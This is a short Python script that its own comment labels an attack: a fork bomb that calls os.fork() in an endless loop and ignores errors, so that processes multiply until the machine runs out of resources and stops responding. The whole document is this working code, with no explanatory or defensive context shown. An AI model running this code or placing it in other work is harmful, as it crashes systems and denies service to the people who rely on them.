import os

while True:  # attack: a fork bomb
    try:
        os.fork()
    except OSError:
        pass
